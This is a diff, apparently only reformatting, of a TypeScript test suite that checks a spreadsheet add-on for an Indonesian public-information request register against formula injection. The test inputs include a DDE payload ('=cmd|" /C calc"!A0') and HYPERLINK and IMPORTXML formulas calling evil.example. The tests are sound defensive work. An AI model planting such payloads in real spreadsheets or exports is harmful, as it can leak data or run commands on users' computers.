@@ -22,10 +22,12 @@ const NUMBERS = ['=1+1', '+62-1', '-007', '@r4', '\t=cmd|" /C calc"!A0', '\r=2+2
 /** Formulas the add-on itself writes: the register's computed columns (after the input columns) and the holiday sheet's effective date. */
 function isOwnFormula(sheet: string, r: number, c: number, formula: string): boolean {
   const first = REGISTER_COLUMNS.length + 1;
-  if (sheet === 'Register' && r === 1 && c >= first && c < first + COMPUTED_COLUMNS.length) return /^=?ARRAYFORMULA\(/.test(formula);
+  if (sheet === 'Register' && r === 1 && c >= first && c < first + COMPUTED_COLUMNS.length)
+    return /^=?ARRAYFORMULA\(/.test(formula);
   if (sheet === 'Hari Libur' && r === 1 && c === 5) return /^=?ARRAYFORMULA\(/.test(formula);
   // The formula-form probe's live columns (hidden sheet, synthetic rows), beside its 6 inputs.
-  if (sheet === 'PPID Uji Rumus' && r === 1 && c > 6 && c <= 6 + COMPUTED_COLUMNS.length) return /^=?ARRAYFORMULA\(/.test(formula);
+  if (sheet === 'PPID Uji Rumus' && r === 1 && c > 6 && c <= 6 + COMPUTED_COLUMNS.length)
+    return /^=?ARRAYFORMULA\(/.test(formula);
   return false;
 }
 
@@ -35,9 +37,11 @@ function strayFormulas(ss: any): string[] {
   for (const sheet of ss.getSheets()) {
     const name = sheet.getName();
     const formulas: string[][] = sheet.getDataRange().getFormulas();
-    formulas.forEach((cells, i) => cells.forEach((f, j) => {
-      if (f && !isOwnFormula(name, i + 1, j + 1, f)) out.push(`${name}!R${i + 1}C${j + 1}: ${f}`);
-    }));
+    formulas.forEach((cells, i) =>
+      cells.forEach((f, j) => {
+        if (f && !isOwnFormula(name, i + 1, j + 1, f)) out.push(`${name}!R${i + 1}C${j + 1}: ${f}`);
+      }),
+    );
   }
   return out;
 }
@@ -50,15 +54,19 @@ async function strayXlsxFormulas(buffer: Buffer): Promise<{ stray: string[]; own
   const strings = new Set<string>();
   let own = 0;
   wb.eachSheet((ws) => {
-    ws.eachRow((r, rn) => r.eachCell((cell, cn) => {
-      const v = cell.value as any;
-      const formula = cell.type === ExcelJS.ValueType.Formula || (v && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v));
-      if (formula) {
-        const f = String(v.formula ?? v.sharedFormula ?? '');
-        if (isOwnFormula(ws.name, rn, cn, f)) own++;
-        else stray.push(`${ws.name}!R${rn}C${cn}: ${f}`);
-      } else if (typeof v === 'string') strings.add(v);
-    }));
+    ws.eachRow((r, rn) =>
+      r.eachCell((cell, cn) => {
+        const v = cell.value as any;
+        const formula =
+          cell.type === ExcelJS.ValueType.Formula ||
+          (v && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v));
+        if (formula) {
+          const f = String(v.formula ?? v.sharedFormula ?? '');
+          if (isOwnFormula(ws.name, rn, cn, f)) own++;
+          else stray.push(`${ws.name}!R${rn}C${cn}: ${f}`);
+        } else if (typeof v === 'string') strings.add(v);
+      }),
+    );
   });
   return { stray, own, strings };
 }
@@ -73,7 +81,10 @@ function setSetting(em: any, label: string, value: unknown): void {
   const grid: unknown[][] = sheet.getDataRange().getValues();
   const r = grid.findIndex((x) => x[0] === label);
   if (r < 0) throw new Error(`no setting ${label}`);
-  em.spreadsheet._impl()._findSheet('Pengaturan')._writeRaw(r + 1, 2, [[value]]);
+  em.spreadsheet
+    ._impl()
+    ._findSheet('Pengaturan')
+    ._writeRaw(r + 1, 2, [[value]]);
 }
 
 function appendToColumn(em: any, col: number, values: unknown[][]): void {
@@ -86,32 +97,98 @@ function appendToColumn(em: any, col: number, values: unknown[][]): void {
 
 describe('formula injection through the bundle: recap, Periksa Data, form', () => {
   const em = addonEmulator({ now: '2025-07-10T03:00:00Z' });
-  const base = { 'Kategori Pemohon': 'Perseorangan', 'Nama Pemohon': 'Pemohon', 'Informasi yang Diminta': 'Data', Status: 'Dipenuhi', Perpanjangan: 'Tidak' };
+  const base = {
+    'Kategori Pemohon': 'Perseorangan',
+    'Nama Pemohon': 'Pemohon',
+    'Informasi yang Diminta': 'Data',
+    Status: 'Dipenuhi',
+    Perpanjangan: 'Tidak',
+  };
   fillRegister(em, [
-    row({ ...base, 'No. Registrasi': typed(NUMBERS[0]), 'Tanggal Permohonan': wib('2025-04-02'), Saluran: typed(CHANNELS[0]), Topik: typed(TOPICS[0]), 'Tanggal Selesai': wib('2025-04-03') }),
-    row({ ...base, 'No. Registrasi': typed(NUMBERS[1]), 'Tanggal Permohonan': wib('2025-04-03'), Saluran: CHANNELS[1], Topik: TOPICS[1], 'Tanggal Selesai': wib('2025-04-04') }),
-    row({ ...base, 'No. Registrasi': typed(NUMBERS[2]), 'Tanggal Permohonan': wib('2025-05-05'), Saluran: typed(CHANNELS[2]), Topik: typed(TOPICS[2]), Status: 'Diproses' }),
-    row({ ...base, 'No. Registrasi': typed(NUMBERS[3]), 'Tanggal Permohonan': wib('2025-06-02'), Saluran: typed(CHANNELS[3]), Topik: typed(TOPICS[3]), 'Tanggal Selesai': wib('2025-06-20') }),
+    row({
+      ...base,
+      'No. Registrasi': typed(NUMBERS[0]),
+      'Tanggal Permohonan': wib('2025-04-02'),
+      Saluran: typed(CHANNELS[0]),
+      Topik: typed(TOPICS[0]),
+      'Tanggal Selesai': wib('2025-04-03'),
+    }),
+    row({
+      ...base,
+      'No. Registrasi': typed(NUMBERS[1]),
+      'Tanggal Permohonan': wib('2025-04-03'),
+      Saluran: CHANNELS[1],
+      Topik: TOPICS[1],
+      'Tanggal Selesai': wib('2025-04-04'),
+    }),
+    row({
+      ...base,
+      'No. Registrasi': typed(NUMBERS[2]),
+      'Tanggal Permohonan': wib('2025-05-05'),
+      Saluran: typed(CHANNELS[2]),
+      Topik: typed(TOPICS[2]),
+      Status: 'Diproses',
+    }),
+    row({
+      ...base,
+      'No. Registrasi': typed(NUMBERS[3]),
+      'Tanggal Permohonan': wib('2025-06-02'),
+      Saluran: typed(CHANNELS[3]),
+      Topik: typed(TOPICS[3]),
+      'Tanggal Selesai': wib('2025-06-20'),
+    }),
     // A duplicate number, an unknown channel and status, a fee that is no number: problems that quote what was typed.
-    row({ ...base, 'No. Registrasi': typed(NUMBERS[0]), 'Tanggal Permohonan': wib('2025-06-03'), Saluran: typed('=SUM(A1)'), Status: typed('@Selesai'), 'Biaya (Rp)': typed('=5000') }),
+    row({
+      ...base,
+      'No. Registrasi': typed(NUMBERS[0]),
+      'Tanggal Permohonan': wib('2025-06-03'),
+      Saluran: typed('=SUM(A1)'),
+      Status: typed('@Selesai'),
+      'Biaya (Rp)': typed('=5000'),
+    }),
     row({ ...base, 'No. Registrasi': typed(NUMBERS[4]), 'Tanggal Permohonan': typed('=TODAY()'), Saluran: 'Email' }),
-    row({ ...base, 'No. Registrasi': typed(NUMBERS[5]), 'Tanggal Permohonan': wib('2025-06-04'), Saluran: 'Email', 'Tanggal Selesai': wib('2025-06-05') }),
+    row({
+      ...base,
+      'No. Registrasi': typed(NUMBERS[5]),
+      'Tanggal Permohonan': wib('2025-06-04'),
+      Saluran: 'Email',
+      'Tanggal Selesai': wib('2025-06-05'),
+    }),
   ]);
   em.call('setupRegister');
   // Setting values are plain-text cells: what is typed is kept as is, no apostrophe needed.
   setSetting(em, 'Nama Unit', UNIT);
   setSetting(em, 'Format No. Registrasi', '={nnn}');
-  appendToColumn(em, 5, CHANNELS.map((c) => [typed(c)]));
-  appendToColumn(em, 6, TOPICS.map((c) => [typed(c)]));
-  appendToColumn(em, 8, [['2025-TW2', typed('=HYPERLINK("http://evil.example","IG")'), typed('@ppid_kota'), 100, 5, 20, 300]]);
+  appendToColumn(
+    em,
+    5,
+    CHANNELS.map((c) => [typed(c)]),
+  );
+  appendToColumn(
+    em,
+    6,
+    TOPICS.map((c) => [typed(c)]),
+  );
+  appendToColumn(em, 8, [
+    ['2025-TW2', typed('=HYPERLINK("http://evil.example","IG")'), typed('@ppid_kota'), 100, 5, 20, 300],
+  ]);
   expect(strayFormulas(em.spreadsheet)).toEqual([]);
 
   const report = em.call('generateReport', { period: '2025-Q2', asOf: '2025-07-10' });
   const check = em.call('checkRegister');
   const submitted = em.call('submitRequest', {
-    received: '2025-07-10', channel: CHANNELS[0], applicantName: '=IMPORTXML("http://evil.example","//a")', applicantType: 'Perseorangan',
-    occupation: '-', address: '+62 Jl. Merdeka', contact: '@budi', infoRequested: '=1+1', topic: TOPICS[0],
-    purpose: '\t=2+2', officer: '\r=3+3', notes: '-1+1',
+    received: '2025-07-10',
+    channel: CHANNELS[0],
+    applicantName: '=IMPORTXML("http://evil.example","//a")',
+    applicantType: 'Perseorangan',
+    occupation: '-',
+    address: '+62 Jl. Merdeka',
+    contact: '@budi',
+    infoRequested: '=1+1',
+    topic: TOPICS[0],
+    purpose: '\t=2+2',
+    officer: '\r=3+3',
+    notes: '-1+1',
   });
 
   test('the report, the check and the form all ran', () => {
@@ -120,7 +197,7 @@ describe('formula injection through the bundle: recap, Periksa Data, form', () =
     expect(submitted).toMatchObject({ ok: true, number: '=001' });
   });
 
-  test('no cell of any sheet became a formula: only the add-on\'s own five ARRAYFORMULAs exist', () => {
+  test("no cell of any sheet became a formula: only the add-on's own five ARRAYFORMULAs exist", () => {
     expect(strayFormulas(em.spreadsheet)).toEqual([]);
   });
 
@@ -128,7 +205,14 @@ describe('formula injection through the bundle: recap, Periksa Data, form', () =
     const values: unknown[][] = em.spreadsheet.getSheetByName(report.recapSheet).getDataRange().getValues();
     const cells = new Set(values.flat());
     // Registration numbers appear in the problems list: the duplicate and the unplaced row's.
-    for (const name of [...CHANNELS, ...TOPICS, NUMBERS[0], NUMBERS[4].trim(), '=HYPERLINK("http://evil.example","IG")', '@ppid_kota']) {
+    for (const name of [
+      ...CHANNELS,
+      ...TOPICS,
+      NUMBERS[0],
+      NUMBERS[4].trim(),
+      '=HYPERLINK("http://evil.example","IG")',
+      '@ppid_kota',
+    ]) {
       expect(cells).toContain(name);
     }
     expect(String(values[1][0]).startsWith(UNIT)).toBe(true);
@@ -142,7 +226,7 @@ describe('formula injection through the bundle: recap, Periksa Data, form', () =
     expect(values.slice(1).some((r) => String(r[3]).includes('=SUM(A1)'))).toBe(true);
   });
 
-  test('the form stores every field, its number and the settings\' list values as text', () => {
+  test("the form stores every field, its number and the settings' list values as text", () => {
     const reg = em.spreadsheet.getSheetByName('Register');
     const head: string[] = reg.getRange(1, 1, 1, reg.getLastColumn()).getValues()[0];
     const line: unknown[] = reg.getRange(submitted.row, 1, 1, head.length).getValues()[0];
@@ -156,26 +240,39 @@ describe('formula injection through the bundle: recap, Periksa Data, form', () =
     expect(at('Kontak')).toBe('@budi');
     expect(at('Informasi yang Diminta')).toBe('=1+1');
     expect(at('Catatan')).toBe('-1+1');
-    expect(reg.getRange(submitted.row, 1, 1, 24).getFormulas()[0].every((f: string) => f === '')).toBe(true);
+    expect(
+      reg
+        .getRange(submitted.row, 1, 1, 24)
+        .getFormulas()[0]
+        .every((f: string) => f === ''),
+    ).toBe(true);
   });
 
-  test('the exported xlsx holds no formula but the add-on\'s own, and the typed text as strings', async () => {
+  test("the exported xlsx holds no formula but the add-on's own, and the typed text as strings", async () => {
     const { stray, own, strings } = await strayXlsxFormulas(await exportXlsxBuffer(em.spreadsheet));
     expect(stray).toEqual([]);
     // The register's live columns, the holiday column, and the hidden probe's live columns.
     expect(own).toBe(2 * COMPUTED_COLUMNS.length + 1);
-    for (const s of [...CHANNELS, ...TOPICS, '=001', '=IMPORTXML("http://evil.example","//a")']) expect(strings).toContain(s);
+    for (const s of [...CHANNELS, ...TOPICS, '=001', '=IMPORTXML("http://evil.example","//a")'])
+      expect(strings).toContain(s);
   });
 });
 
-describe('formula injection through the offline runner\'s CSV import', () => {
+describe("formula injection through the offline runner's CSV import", () => {
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ppid-injection-'));
   afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
 
   test('cells starting with = + - @ tab or CR stay data in the register, the recap and spreadsheet.xlsx', async () => {
     const head = header();
     const col = (h: string) => head.indexOf(h);
-    const dangerous = ['=HYPERLINK("http://evil.example","x")', '+SUM(1,2)', '-2+3', '@SUM(1)', '\t=1+1', '\r=cmd|" /C calc"!A0'];
+    const dangerous = [
+      '=HYPERLINK("http://evil.example","x")',
+      '+SUM(1,2)',
+      '-2+3',
+      '@SUM(1)',
+      '\t=1+1',
+      '\r=cmd|" /C calc"!A0',
+    ];
     const rows = dangerous.map((d, i) => {
       const r: unknown[] = head.map(() => '');
       r[col('No. Registrasi')] = d;
